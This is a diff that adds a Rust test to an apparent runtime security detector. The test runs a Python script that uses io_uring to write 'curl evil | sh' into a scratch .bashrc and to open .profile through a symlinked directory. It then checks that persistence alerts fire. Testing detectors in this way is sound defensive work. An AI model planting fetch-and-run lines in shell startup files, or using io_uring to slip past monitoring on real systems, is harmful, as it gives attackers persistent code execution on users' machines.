@@ -137,6 +137,44 @@ fn setup_and_an_openat_of_a_credential_file_are_seen_with_its_path() {
 }
 
 #[test]
+fn a_shell_start_up_file_written_through_io_uring_is_persistence() {
+    // The persistence rules' "content placed" includes a file opened for writing by io_uring, by
+    // absolute path and by a name relative to a directory fd opened through a symlink.
+    let dir = scratch();
+    let home = dir.path().join("home");
+    std::os::unix::fs::symlink(&home, dir.path().join("h")).unwrap();
+    let py = format!(
+        "{RING}\n\
+         r = Ring()\n\
+         fd = r.submit(IORING_OP_OPENAT, fd=-100, addr=r.path('{rc}'), op_flags=os.O_WRONLY | os.O_CREAT | os.O_APPEND, user_data=1)\n\
+         assert fd >= 0, fd\n\
+         os.write(fd, b'curl evil | sh\\n')\n\
+         d = os.open('{link}', os.O_RDONLY | os.O_DIRECTORY)\n\
+         fd2 = r.submit(IORING_OP_OPENAT, fd=d, addr=r.path('.profile'), op_flags=os.O_WRONLY | os.O_CREAT, user_data=2)\n\
+         assert fd2 >= 0, fd2\n",
+        rc = home.join(".bashrc").display(),
+        link = dir.path().join("h").display(),
+    );
+    let run = exec_rules(&shipped_rules(), &[], &["/usr/bin/python3", "-c", &py]);
+    assert!(run.status.success(), "{}", run.stderr);
+    let outputs: Vec<String> = run
+        .alerts_of("Shell configuration file modified")
+        .iter()
+        .map(|a| a["output"].as_str().unwrap().to_string())
+        .collect();
+    for name in [".bashrc", ".profile"] {
+        let path = format!("{}/{name}", canonical(&home));
+        assert!(
+            outputs
+                .iter()
+                .any(|o| o.contains(&format!("{path} changed (io_uring_op)"))),
+            "{name}: {outputs:?}; fired: {:?}",
+            run.fired()
+        );
+    }
+}
+
+#[test]
 fn an_sqpoll_ring_submits_without_a_syscall_and_is_still_seen() {
     let dir = scratch();
     let creds = dir.path().join("home/.aws/credentials");
